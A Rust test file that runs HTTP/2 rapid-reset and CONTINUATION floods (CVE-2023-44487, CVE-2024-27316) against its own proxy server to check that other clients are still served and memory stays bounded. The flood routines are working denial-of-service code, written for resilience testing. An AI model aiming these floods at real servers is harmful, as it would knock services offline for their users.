//! HTTP/2 abuse (SPEC §12): a rapid-reset flood (CVE-2023-44487) and a CONTINUATION flood
//! (CVE-2024-27316 and kin) against the real server over h2c, while another client keeps being
//! served. Memory is read from /proc before and after; every loop is bounded in count and time.

mod common;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use common::*;

fn start(origin: &Origin) -> Vestibule {
    Setup::new(origin.addr)
        .server("h2c = true\nheader_timeout = \"2s\"")
        .start()
}

/// A request by another client, over HTTP/1.1 on a fresh connection.
fn bystander_served(v: &Vestibule) -> bool {
    client()
        .get(v.url("/__echo"))
        .send()
        .is_ok_and(|r| r.status() == 200)
}

/// Opens streams and cancels each at once, as fast as the server lets it, for at most
/// `streams` streams or `limit` of time. Returns (streams opened, whether the server ended the
/// connection).
async fn rapid_reset(addr: SocketAddr, streams: usize, limit: Duration) -> (usize, bool) {
    let deadline = Instant::now() + limit;
    let Ok(tcp) = tokio::net::TcpStream::connect(addr).await else {
        return (0, true);
    };
    let Ok((mut h2, conn)) = h2::client::handshake(tcp).await else {
        return (0, true);
    };
    let driver = tokio::spawn(conn);
    let mut opened = 0;
    let mut ended = false;
    while opened < streams && Instant::now() < deadline {
        let ready = tokio::time::timeout(Duration::from_secs(2), h2.clone().ready()).await;
        h2 = match ready {
            Ok(Ok(h2)) => h2,
            _ => {
                ended = true;
                break;
            }
        };
        let req = http::Request::get(format!("http://{addr}/__echo?i={opened}"))
            .body(())
            .unwrap();
        match h2.send_request(req, true) {
            Ok((response, mut stream)) => {
                // RST_STREAM(CANCEL) right behind the HEADERS.
                stream.send_reset(h2::Reason::CANCEL);
                drop(response);
                opened += 1;
            }
            Err(_) => {
                ended = true;
                break;
            }
        }
        if opened % 256 == 0 {
            tokio::task::yield_now().await;
        }
    }
    drop(h2);
    let _ = tokio::time::timeout(Duration::from_secs(2), driver).await;
    (opened, ended)
}

#[test]
fn a_rapid_reset_flood_leaves_others_served_and_memory_bounded() {
    let origin = Origin::start();
    let v = start(&origin);
    assert!(bystander_served(&v));
    let before = rss_kib(v.proc.pid());

    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let addr = v.proxy;
    let flood = rt.spawn(async move {
        let mut total = 0;
        let mut ended = 0;
        for _ in 0..4 {
            let (opened, closed) = rapid_reset(addr, 20_000, Duration::from_secs(10)).await;
            total += opened;
            ended += usize::from(closed);
        }
        (total, ended)
    });
    // Others are served while the flood runs.
    let mut served = 0;
    for _ in 0..10 {
        if bystander_served(&v) {
            served += 1;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    let (opened, ended) = rt.block_on(flood).unwrap();
    assert_eq!(served, 10, "a bystander was refused during the flood");
    assert!(opened > 400, "the flood never got going: {opened} streams");
    eprintln!("rapid reset: {opened} streams opened and cancelled; the server ended {ended} of 4 connections");

    assert!(bystander_served(&v));
    // Memory comes back to about where it was: nothing per cancelled stream is kept.
    let settled = eventually(Duration::from_secs(15), || {
        rss_kib(v.proc.pid()) < before + 64 * 1024
    });
    let after = rss_kib(v.proc.pid());
    assert!(settled, "RSS grew from {before} KiB to {after} KiB");
    eprintln!("RSS {before} KiB before, {after} KiB after");
    assert!(!v.log_text().contains("panicked"));
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// One HPACK literal header field without indexing, new name: `x-flood-NNNN: <value>`.
fn literal(i: usize, value_len: usize) -> Vec<u8> {
    let name = format!("x-flood-{i:06}");
    let mut b = vec![0x00, name.len() as u8];
    b.extend_from_slice(name.as_bytes());
    // Value length with a 7-bit prefix integer.
    let mut n = value_len;
    if n < 127 {
        b.push(n as u8);
    } else {
        b.push(127);
        n -= 127;
        while n >= 128 {
            b.push((n % 128) as u8 | 0x80);
            n /= 128;
        }
        b.push(n as u8);
    }
    b.extend(std::iter::repeat_n(b'a', value_len));
    b
}

#[test]
fn a_continuation_flood_is_cut_off_and_others_are_served() {
    let origin = Origin::start();
    let v = start(&origin);
    let before = rss_kib(v.proc.pid());

    let mut s = TcpStream::connect(v.proxy).unwrap();
    s.set_write_timeout(Some(Duration::from_secs(5))).unwrap();
    s.set_read_timeout(Some(Duration::from_millis(1))).unwrap();
    s.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").unwrap();
    s.write_all(&frame(0x4, 0, 0, &[])).unwrap();
    // HEADERS with the request's pseudo-headers (indexed :method GET, :scheme http, :path /),
    // END_STREAM but no END_HEADERS; then CONTINUATION frames that never end.
    let mut first = vec![0x82, 0x86, 0x84];
    first.extend(literal(0, 100));
    s.write_all(&frame(0x1, 0x1, 1, &first)).unwrap();
    let started = Instant::now();
    let mut sent = 0usize;
    let mut cut_off = false;
    let mut scratch = [0u8; 4096];
    while sent < 20_000 && started.elapsed() < Duration::from_secs(20) {
        let block = literal(sent + 1, 4000);
        if s.write_all(&frame(0x9, 0, 1, &block)).is_err() {
            cut_off = true;
            break;
        }
        sent += 1;
        match s.read(&mut scratch) {
            Ok(0) => {
                cut_off = true;
                break;
            }
            // A GOAWAY (or anything): keep going until the socket says it is closed.
            Ok(_) => {}
            Err(_) => {}
        }
    }
    assert!(
        cut_off,
        "the server took {sent} CONTINUATION frames ({} MiB) without closing",
        sent * 4 / 1024
    );
    eprintln!("CONTINUATION flood cut off after {sent} frames of 4 KiB");
    // 64 KiB of header list is the limit: far fewer than the 20,000 frames tried.
    assert!(sent < 1000, "{sent} frames");
    assert!(bystander_served(&v));
    let after = rss_kib(v.proc.pid());
    assert!(
        after < before + 64 * 1024,
        "RSS grew from {before} KiB to {after} KiB"
    );
    assert!(!v.log_text().contains("panicked"));
}
